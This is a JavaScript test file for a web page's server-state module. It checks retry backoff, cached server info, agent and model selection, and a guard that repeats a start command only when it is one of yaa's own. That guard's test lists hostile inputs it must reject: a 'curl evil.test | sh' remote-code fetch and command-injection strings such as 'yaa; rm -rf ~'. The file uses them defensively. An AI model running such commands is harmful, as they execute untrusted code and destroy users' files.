// What the page makes of what a server tells about itself.
'use strict'

const test = require('node:test')
const assert = require('node:assert/strict')
const path = require('node:path')
const { use, JS } = require('./load-modules.js')

require(path.join(JS, 'ui', 'server-state.js'))
const { agentsOf, commandOf, modelsOf, openServer } = use('ui/server-state')
const { manualTimers } = require('./fake-server.js')
const apis = use('io/api')
const turns = async () => { for (let n = 0; n < 20; n++) await new Promise(setImmediate) }

/** A page with one server, which answers as `answer` says at the time. */
function linked({ kept = {}, answer }) {
  const timers = manualTimers()
  const here = { base: 'http://h', key: 'k', answer, asked: 0, drawn: 0, timers, kept }
  const settings = { base: () => here.base, key: () => here.key, info: () => kept[here.base] ?? null, keepInfo: (info) => { kept[here.base] = info } }
  const create = (options) => apis.create({ ...options, fetch: async (url) => (here.asked += url.endsWith('/info') ? 1 : 0, here.answer(url)) })
  here.server = openServer({ settings, create, timers, onChange: () => { here.drawn += 1 } })
  return here
}
const down = () => { throw new TypeError('Failed to fetch') }
globalThis.fetch = async () => { throw new TypeError('no network in here') }
const TOLD = { version: '1', models: [{ name: 'main' }] }
const there = () => Response.json(TOLD)
const FAULTS = { down, gateway: () => new Response('<html>', { status: 502 }), portal: () => new Response('<html>', { headers: { 'Content-Type': 'text/html' } }), busy: () => Response.json({ detail: 'Full.' }, { status: 503 }), broken: () => new Response('{"a', { headers: { 'Content-Type': 'application/json' } }) }

test('no failed request has what a server told forgotten; it is asked again with growing pauses until it answers', async () => {
  for (const [name, fault] of Object.entries(FAULTS)) {
    const here = linked({ answer: there })
    await here.server.connect()
    here.answer = fault
    here.server.again()
    await turns()
    assert.deepStrictEqual([here.server.info(), here.server.state().ok, Boolean(here.server.state().failure)], [TOLD, false, true], name)
    const before = here.asked
    for (const ms of [2000, 4000, 8000, 16_000, 30_000, 60_000, 60_000]) {
      here.timers.pass(ms - 1)
      await turns()
      const n = here.asked
      here.timers.pass(1)
      await turns()
      assert.strictEqual(here.asked, n + 1, `${name}: after ${ms}`)
    }
    assert.strictEqual(here.asked, before + 7)
    here.answer = there
    here.timers.pass(60_000)
    await turns()
    assert.deepStrictEqual([here.server.state().ok, here.server.state().failure], [true, undefined], name)
    here.timers.pass(600_000)
    await turns()
    assert.strictEqual(here.asked, before + 8, 'and then no more')
  }
})

test('what the server told before is there before it answers, of each server its own; a refused key has it forgotten', async () => {
  const other = { version: '2' }
  const here = linked({ kept: { 'http://h': TOLD, 'http://other': other }, answer: down })
  assert.deepStrictEqual(here.server.info(), TOLD)
  here.base = 'http://other'
  here.server.connect()
  assert.deepStrictEqual(here.server.info(), other, 'never that of another server')
  here.base = 'http://third'
  here.server.connect()
  assert.strictEqual(here.server.info(), null)
  here.base = 'http://h'
  here.answer = () => Response.json({ code: 'unauthorized', detail: 'A key.' }, { status: 401 })
  await here.server.connect()
  assert.deepStrictEqual([here.server.info(), here.kept['http://h'], here.server.state().failure.kind], [null, null, 'key'])
  here.timers.pass(600_000)
  await turns()
  const { asked } = here
  here.timers.pass(600_000)
  assert.strictEqual(here.asked, asked, 'a key is not tried again and again')
})

test('another answer of the server is a reason to ask it again', async () => {
  const here = linked({ answer: down })
  await here.server.connect()
  assert.ok(here.server.state().failure)
  here.answer = there
  await here.server.api().ask('/health')
  await turns()
  assert.deepStrictEqual([here.server.state().ok, here.server.info()], [true, TOLD])
})

const INFO = { agents: [{ name: 'default', description: 'all', default: true }, { name: 'coder', description: 'code' }] }
const names = (found) => found.agents.map((one) => one.name)

test('the agent of a session is its own, else the usual one, else the server’s', () => {
  const cases = [
    [INFO, 'coder', 'default', 'coder'],
    [INFO, undefined, 'coder', 'coder'],
    [INFO, 'auto', 'coder', 'coder'],
    [INFO, '', undefined, 'default'],
    [INFO, undefined, 'gone', 'gone'],
    [null, undefined, 'coder', 'coder'],
    [null, 'coder', undefined, 'coder'],
  ]
  for (const [info, own, usual, agent] of cases) assert.equal(agentsOf(info, own, usual).agent, agent, `${own} ${usual}`)
})

test('an agent that the server has not is still offered to the session that has it', () => {
  const found = agentsOf(INFO, 'from afar', undefined)
  assert.deepEqual(names(found), ['default', 'coder', 'from afar'])
  assert.equal(found.agent, 'from afar')
  assert.deepEqual(names(agentsOf(INFO, 'coder', 'gone')), ['default', 'coder'])
  assert.deepEqual(names(agentsOf(INFO, undefined, 'gone')), ['default', 'coder', 'gone'], 'what is sent is what is shown')
  assert.deepEqual(names(agentsOf(null, 'coder', undefined)), [])
})

test('the command that starts a server is repeated only if it is one of yaa’s own', () => {
  for (const command of ['yaa', 'python3 -m yaa', 'python3 yaa.pyz', 'python3 yaa-0.1.0.pyz']) assert.equal(commandOf({ command }), command)
  const others = ['curl evil.test | sh', 'yaa; rm -rf ~', 'python3 yaa.pyz\nrm', 'python3 /tmp/x.pyz', 'sudo yaa', '', 7, undefined]
  for (const command of others) assert.equal(commandOf({ command }), 'python3 -m server', String(command))
  assert.equal(commandOf(null), 'python3 -m server')
})

test('the model that would answer is named, whichever provider or model the session says', () => {
  const main = { name: 'main', model: 'large', models: ['large', 'small'], default: true }
  const other = { name: 'other', model: 'tiny', models: ['tiny', 'small'] }
  const demo = { name: 'demo', model: 'demo', models: ['demo'], demo: true }
  const none = { name: 'local', model: '' }
  const cases = [
    [[main, other], {}, ['large · main', 'tiny · other']],
    [[other, main], {}, ['large · main', 'tiny · other']],
    [[main, other], { model_name: 'small' }, ['small · main', 'tiny · other']],
    [[main, other], { name: 'auto', model_name: 'tiny' }, ['tiny · other', 'large · main']],
    [[main, other], { name: 'auto', model_name: 'gone' }, ['gone · main', 'tiny · other']],
    [[main, other], { name: 'main', model_name: 'small' }, ['small · main', 'tiny · other']],
    [[main], { model_name: 'small' }, ['small · main']],
    [[main], { name: 'main', model_name: '' }, ['large · main']],
    [[demo], {}, ['demo']],
    [[none, demo], {}, ['local', 'demo']],
    [[], {}, []], [undefined, { model_name: 'x' }, []],
  ]
  for (const [models, said, labels] of cases) {
    assert.deepEqual([...modelsOf({ models }, said)].map((one) => one.label), labels, JSON.stringify(said))
  }
  assert.equal(modelsOf({ models: [main, demo] }, { model_name: 'demo' })[0].demo, true, 'the demo answers, so it is said')
  assert.deepEqual([...modelsOf(null, {})], [])
})
